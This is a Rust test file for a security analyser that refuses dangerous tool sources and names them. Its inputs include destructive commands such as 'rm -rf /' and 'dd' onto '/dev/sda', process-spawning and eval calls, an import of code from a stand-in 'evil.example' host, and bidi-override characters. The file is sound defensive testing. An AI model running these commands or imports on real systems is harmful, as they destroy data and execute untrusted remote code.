use super::*;
use serde_json::json;

fn analysed(kind: &str, source: &str) -> Analysis {
    let meta = json!({
        "id": "a_tool", "name": "a_tool", "description": "It does.", "type": kind, "status": "pending",
        "createdBy": "default", "scope": "all", "createdAt": "", "updatedAt": "",
        "parameters": {"a": {"type": "string"}},
    });
    analyse(&Manifest::parse("a_tool", &meta.to_string()).unwrap(), source)
}

#[test]
fn documented_patterns_are_refused_and_named() {
    for (kind, source, pattern) in [
        ("command", "rm -rf build", "rm -rf"),
        ("command", "rm -r --force build", "rm -rf"),
        ("command", "r''m -fr build", "rm -rf"),
        ("command", "sh -c 'chmod 755 x'", "chmod"),
        ("command", "echo a\u{202e}b", "U+202E"),
        ("typescript", "process.exit(0)", "process.exit"),
        ("typescript", "const {execSync} = require('child_process')", "child_process"),
        ("typescript", "import fs from 'node:fs'", "import node:fs"),
        ("typescript", "await import('https')", "import https"),
        ("typescript", "Bun.spawn(['ls'])", "Bun.spawn"),
        ("typescript", "eval ('1')", "eval("),
        ("typescript", "new Function('return 1')", "Function("),
        ("typescript", "run('rm -rf /')", "rm -rf"),
        ("typescript", "import x from 'https://evil.example/x.ts'", "import https://evil.example/x.ts"),
        ("typescript", "return 1 /* \u{202e} */", "U+202E"),
    ] {
        let refused = analysed(kind, source).refused.unwrap_or_else(|| panic!("{source}"));
        assert!(format!("{refused:?}").contains(pattern), "{source}: {refused:?}");
    }
    assert_eq!(analysed("command", "sudo ls {{a}}").refused.unwrap().key(), "dynamic-pattern");
    assert_eq!(analysed("command", "dd if=x of=/dev/sda").refused.unwrap().key(), "dynamic-pattern-blocked");
    assert_eq!(analysed("command", &"x".repeat(40_000)).refused.unwrap().key(), "dynamic-source-long");
}

#[test]
fn words_in_comments_and_names_are_not_patterns() {
    for (kind, source) in [
        ("command", "echo 'rm -rf' {{a}}"),
        ("command", "rm build/{{a}}"),
        ("typescript", "export default async function run(args: any) { // eval(process.env)\n return 1; }"),
        ("typescript", "export default (args: any) => ({process: 'invoice', require: true})"),
        ("typescript", "const retrieval = (x: string) => x; retrieval('path')"),
        ("typescript", "\u{feff}export default () => 1"),
    ] {
        let analysis = analysed(kind, source);
        assert!(analysis.refused.is_none(), "{source}: {:?}", analysis.refused);
    }
}

#[test]
fn what_else_there_is_to_see_is_told() {
    let keys = |kind, source: &str| -> Vec<String> {
        analysed(kind, source).findings.iter().map(|finding| finding.key().to_owned()).collect()
    };
    assert_eq!(keys("command", "cat -- {{a}}"), Vec::<String>::new());
    assert_eq!(keys("command", "curl {{a}}"), ["dynamic-found-command"]);
    assert_eq!(keys("command", "ls"), ["dynamic-found-unused"]);
    assert_eq!(keys("typescript", &format!("1{}2", "\n".repeat(60))), ["dynamic-found-blank"]);
    assert_eq!(keys("typescript", "const \u{430}dmin = 1"), ["dynamic-found-letters"]);
    assert_eq!(keys("typescript", "await fetch(x)"), ["dynamic-found-code"]);
}
